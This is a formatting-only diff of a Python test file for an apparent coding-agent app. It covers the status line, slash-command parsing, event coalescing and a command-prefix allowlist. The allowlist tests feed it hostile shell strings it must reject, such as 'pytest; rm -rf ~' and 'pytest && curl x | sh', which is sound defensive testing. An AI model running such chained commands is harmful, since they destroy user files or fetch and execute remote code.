@@ -17,38 +17,60 @@ from PIL import Image
 
 
 def test_status_figures_from_usage():
-    usage = Usage(prompt_tokens=20_000, cached_prompt_tokens=15_000, generated_tokens=300,
-                  time_to_first_token_s=2.0, total_time_s=8.0)
-    s = StatusState(engine="native", model="m3", state="ready", context_max=196_608,
-                    sandbox="workspace-write", sandbox_layers=("bwrap", "landlock", "seccomp", "rlimits"))
+    usage = Usage(
+        prompt_tokens=20_000,
+        cached_prompt_tokens=15_000,
+        generated_tokens=300,
+        time_to_first_token_s=2.0,
+        total_time_s=8.0,
+    )
+    s = StatusState(
+        engine="native",
+        model="m3",
+        state="ready",
+        context_max=196_608,
+        sandbox="workspace-write",
+        sandbox_layers=("bwrap", "landlock", "seccomp", "rlimits"),
+    )
     line = s.with_usage(usage).render()
     # decode speed excludes the time to first token: 300 tokens in 6 s
-    assert line == ("native m3 │ ctx 20.3k/196.6k │ cached 15.0k 75% │ 50.0 tok/s │ think adaptive"
-                    " │ workspace-write (bwrap+landlock+seccomp +1)")
+    assert line == (
+        "native m3 │ ctx 20.3k/196.6k │ cached 15.0k 75% │ 50.0 tok/s │ think adaptive"
+        " │ workspace-write (bwrap+landlock+seccomp +1)"
+    )
 
 
 def test_status_before_any_request_and_while_loading():
     line = StatusState(engine="scripted", model="scripted", state="loading").render()
-    assert line == "scripted │ loading │ ctx - │ cached - │ - tok/s │ think adaptive │ sandbox ? (no layers)"
+    assert (
+        line
+        == "scripted │ loading │ ctx - │ cached - │ - tok/s │ think adaptive │ sandbox ? (no layers)"
+    )
 
 
-@pytest.mark.parametrize("text,expected", [
-    ("hello", None),
-    ("//not a command", None),
-    ("/think enabled", ("think", "enabled")),
-    ("  /HELP ", ("help", "")),
-    ("/attach shots/a b.png", ("attach", "shots/a b.png")),
-])
+@pytest.mark.parametrize(
+    "text,expected",
+    [
+        ("hello", None),
+        ("//not a command", None),
+        ("/think enabled", ("think", "enabled")),
+        ("  /HELP ", ("help", "")),
+        ("/attach shots/a b.png", ("attach", "shots/a b.png")),
+    ],
+)
 def test_parse_slash(text, expected):
     got = parse_slash(text)
     assert (got.name, got.arg) == expected if expected else got is None
 
 
-@pytest.mark.parametrize("text,message", [
-    ("/think lots", "usage: /think [enabled|disabled|adaptive]"),
-    ("/attach", "usage: /attach PATH"),
-    ("/frobnicate", "unknown command /frobnicate; type /help for the list"),
-])
+@pytest.mark.parametrize(
+    "text,message",
+    [
+        ("/think lots", "usage: /think [enabled|disabled|adaptive]"),
+        ("/attach", "usage: /attach PATH"),
+        ("/frobnicate", "unknown command /frobnicate; type /help for the list"),
+    ],
+)
 def test_parse_slash_errors(text, message):
     with pytest.raises(SlashError, match=re.escape(message)):
         parse_slash(text)
@@ -56,7 +78,10 @@ def test_parse_slash_errors(text, message):
 
 def test_thinking_cycle_visits_every_mode():
     assert [next_thinking(m) for m in ("adaptive", "enabled", "disabled")] == [
-        "enabled", "disabled", "adaptive"]
+        "enabled",
+        "disabled",
+        "adaptive",
+    ]
 
 
 def test_at_token_and_completion(tmp_path):
@@ -86,15 +111,26 @@ def test_context_notices_carry_no_ids():
     text = describe_context_event("checkpoint", {"id": "cb933c4f45b9a6f94"})
     assert "cb93" not in text and "/undo" in text
     assert describe_context_event("snapshot", {"files_included": 3, "tokens": 900}) == (
-        "repository snapshot taken: 3 files, 900 tokens")
+        "repository snapshot taken: 3 files, 900 tokens"
+    )
 
 
 def test_coalesce_merges_runs_and_keeps_order():
-    events = [ev.ReasoningDelta("a"), ev.ReasoningDelta("b"), ev.ContentDelta("c"),
-              ev.ContentDelta("d"), ev.ToolCallStarted("1", "x", {}), ev.ContentDelta("e")]
+    events = [
+        ev.ReasoningDelta("a"),
+        ev.ReasoningDelta("b"),
+        ev.ContentDelta("c"),
+        ev.ContentDelta("d"),
+        ev.ToolCallStarted("1", "x", {}),
+        ev.ContentDelta("e"),
+    ]
     out = coalesce(events)
-    assert out == [ev.ReasoningDelta("ab"), ev.ContentDelta("cd"), ev.ToolCallStarted("1", "x", {}),
-                   ev.ContentDelta("e")]
+    assert out == [
+        ev.ReasoningDelta("ab"),
+        ev.ContentDelta("cd"),
+        ev.ToolCallStarted("1", "x", {}),
+        ev.ContentDelta("e"),
+    ]
 
 
 def test_batches_deliver_everything_in_order_and_end():
@@ -127,20 +163,23 @@ def test_batches_report_a_broken_stream():
     assert isinstance(got[-1], ev.Error) and "socket closed" in got[-1].message
 
 
-@pytest.mark.parametrize(("command", "prefix"), [
-    ("pytest -x tests", ("pytest",)),
-    ("git status --short", ("git", "status")),
-    ("python -m pytest -q", ("python", "-m", "pytest")),
-    ("npm test", ("npm", "test")),
-    ("git -c core.pager=evil status", None),  # options before the action: no safe prefix
-    ("FOO=1 pytest", None),
-    ("pytest; rm -rf ~", None),
-    ("pytest && curl x | sh", None),
-    ("pytest $(rm -rf x)", None),
-    ("pytest `id`", None),
-    ("pytest > /etc/passwd", None),
-    ("git", None),
-])
+@pytest.mark.parametrize(
+    ("command", "prefix"),
+    [
+        ("pytest -x tests", ("pytest",)),
+        ("git status --short", ("git", "status")),
+        ("python -m pytest -q", ("python", "-m", "pytest")),
+        ("npm test", ("npm", "test")),
+        ("git -c core.pager=evil status", None),  # options before the action: no safe prefix
+        ("FOO=1 pytest", None),
+        ("pytest; rm -rf ~", None),
+        ("pytest && curl x | sh", None),
+        ("pytest $(rm -rf x)", None),
+        ("pytest `id`", None),
+        ("pytest > /etc/passwd", None),
+        ("git", None),
+    ],
+)
 def test_command_prefix(command, prefix):
     from m3agent.app.command_prefix import command_prefix
 
@@ -152,7 +191,17 @@ def test_an_allowed_prefix_never_covers_shell_syntax_or_another_action():
 
     assert matches("pytest -k slow tests/", ("pytest",))
     assert matches("git status", ("git", "status"))
-    for attempt in ("pytest; curl evil | sh", "pytest && rm -rf ~", "pytest $(id)",
-                    "pytest\nrm -rf ~", "pytestx", "git push", "git status; git push",
-                    "PYTHONPATH=/tmp pytest", "pytest 'unterminated"):
-        assert not matches(attempt, ("pytest",)) and not matches(attempt, ("git", "status")), attempt
+    for attempt in (
+        "pytest; curl evil | sh",
+        "pytest && rm -rf ~",
+        "pytest $(id)",
+        "pytest\nrm -rf ~",
+        "pytestx",
+        "git push",
+        "git status; git push",
+        "PYTHONPATH=/tmp pytest",
+        "pytest 'unterminated",
+    ):
+        assert not matches(attempt, ("pytest",)) and not matches(attempt, ("git", "status")), (
+            attempt
+        )
